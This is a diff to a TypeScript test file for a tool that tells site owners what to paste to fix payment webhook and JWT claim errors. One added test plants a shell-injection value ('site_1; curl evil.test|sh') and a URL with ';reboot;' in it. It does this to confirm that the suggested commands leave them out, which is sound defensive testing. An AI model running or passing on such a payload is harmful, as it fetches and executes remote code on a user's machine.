@@ -1,8 +1,12 @@
+import * as v from 'valibot';
 import { describe, expect, it } from 'vitest';
+import type { Checkup } from '../worker/contract.ts';
+import { UserClaims } from '../worker/rules/user-claims.ts';
 import { policiesInHeader, policyInMeta } from './csp/policy.ts';
 import { examine } from './examine.ts';
 import type { ElementFacts, Facts, TokenFacts } from './facts.ts';
 import type { Finding } from './finding.ts';
+import { rightClaims } from './right-claims.ts';
 import { checkedUp, good, goodPage, onPage, withElements } from './testing.ts';
 
 const findings = (facts: Facts, outcome: Finding['outcome']) =>
@@ -220,8 +224,10 @@ describe('what to paste for', () => {
   });
   const webhook = (status: number, code: string | null): Facts => ({
     ...good,
-    worker: { ...good.worker, webhook: { status, code } },
+    worker: { ...good.worker, webhook: { came: 'answer', status, code } },
   });
+
+  const now = 'Math.floor(Date.now() / 1000)';
 
   const rows: readonly (readonly [name: string, facts: Facts, check: Finding['check'], paste: string])[] = [
     [
@@ -405,6 +411,12 @@ describe('what to paste for', () => {
       'https://pay.example.com/v1/webhooks/stripe',
     ],
     [
+      'an endpoint out of reach',
+      { ...good, worker: { ...good.worker, webhook: { came: 'nothing', reason: 'ECONNRESET' } } },
+      'webhook-endpoint',
+      'https://pay.example.com/v1/webhooks/stripe',
+    ],
+    [
       'a Worker without secrets',
       webhook(500, 'misconfigured'),
       'webhook-endpoint',
@@ -446,7 +458,33 @@ describe('what to paste for', () => {
     ['no exp', saying({ exp: null }, 'exp'), 'token', '"exp": iat + 300'],
     ['jti', saying({}, 'jti'), 'token', '"jti": "<a UUID>"'],
     ['sub', saying({}, 'sub'), 'token', '"sub": "<your user id>"'],
-    ['email', saying({}, 'email'), 'token', '"email"'],
+    ['iat in milliseconds', saying({ iat: 1_800_000_000_000 }, 'iat'), 'token', `"iat": ${now}`],
+    [
+      'iat in milliseconds, where the Worker takes offence at exp first',
+      saying({ iat: 1_800_000_000_000, exp: 1_800_000_300_000 }, 'exp'),
+      'token',
+      `"exp": ${now} + 300`,
+    ],
+    ['exp in milliseconds', saying({ exp: 1_800_000_300_000 }, 'exp'), 'token', `"exp": ${now} + 300`],
+    ['no iat', saying({ iat: null }, 'iat'), 'token', `"iat": ${now}`],
+    ['nbf in the future', saying({}, 'nbf'), 'token', `"nbf": ${now}`],
+    ['email', saying({}, 'email'), 'token', '"email": "ada@example.com"'],
+    ['scope that is no list', saying({}, 'scope'), 'token', '"scope": ["onboard"]'],
+    ['a scope that there is not', saying({}, 'scope.0'), 'token', '"scope": ["onboard"]'],
+    ['a country of three letters', saying({}, 'account.country'), 'token', '"account": {"country":"US"}'],
+    [
+      'a date of birth that is a text',
+      saying({}, 'account.individual.dob'),
+      'token',
+      '"account": {"individual":{"dob":{"day":10,"month":12,"year":1985}}}',
+    ],
+    ['what cannot be said of a bank', saying({}, 'bank.limits.banks'), 'token', '"bank": {"limits":{"accounts":1}}'],
+    [
+      'what is no object',
+      saying({}, 'payload'),
+      'token',
+      '{ "iss": …, "aud": …, "sub": …, "iat": …, "exp": …, "jti": …, "scope": … }',
+    ],
     ['the header', invalid('header'), 'token', '{ "alg": "HS256", "typ": "inlay+jwt", "kid": "key_…" }'],
     ['the key id', invalid('kid'), 'token', 'npm run site -- rotate site_1'],
     ['the signature', invalid('signature'), 'token', 'npm run site -- rotate site_1'],
@@ -482,6 +520,48 @@ describe('what to paste for', () => {
     );
     expect(unknown(never)).toEqual(['webhooks', 'webhooks']);
   });
+});
+
+it('every claim that there is to paste is one that the Worker takes', () => {
+  const said = { iss: 'site_1', aud: 'https://pay.example.com', sub: 'ada', iat: 1, exp: 2, jti: 'j', ...rightClaims };
+  expect(v.parse(UserClaims, said)).toEqual(said);
+  const optional = Object.keys(UserClaims.entries).filter(
+    (name) => !['iss', 'aud', 'sub', 'iat', 'exp', 'nbf', 'jti'].includes(name),
+  );
+  expect(Object.keys(rightClaims).sort()).toEqual(optional.sort());
+});
+
+it('puts into a command no id that is none, and no address that a shell would act on', () => {
+  const evil = 'site_1; curl evil.test|sh';
+  const of = (change: Partial<Checkup>) => {
+    const facts = checkedUp({ site: evil, ...change }, withElements('cashapp-save-method').elements);
+    return {
+      ...facts,
+      page: { ...facts.page, url: 'https://a;reboot;/', settings: { ...goodPage.settings, site: evil } },
+    };
+  };
+  const invalid = (param: string) => ({ token: { valid: false, code: 'token_invalid', param } }) as const;
+  const said = [
+    of({ key_of_other_mode: 'secret_key' }),
+    of({ missing: ['terms_url'] }),
+    of(invalid('kid')),
+    of(invalid('signature')),
+    {
+      ...of({}),
+      worker: {
+        ...good.worker,
+        checkup: { came: 'refusal', status: 403, code: 'origin_not_allowed', message: '' },
+      } as const,
+    },
+  ].flatMap((facts) => faults(facts).map(({ says, paste }) => `${says} ${paste}`));
+  const commands = said.flatMap((text) => /npm run site[^)]*/.exec(text) ?? []);
+  expect(commands).toEqual([
+    'npm run site -- change site_… --stripe-keys',
+    'npm run site -- change site_… --terms-url https://app.example.com/terms',
+    'npm run site -- rotate site_…',
+    'npm run site -- rotate site_…',
+    'npm run site -- change site_… --origin …, once for each',
+  ]);
 });
 
 describe('integrity', () => {
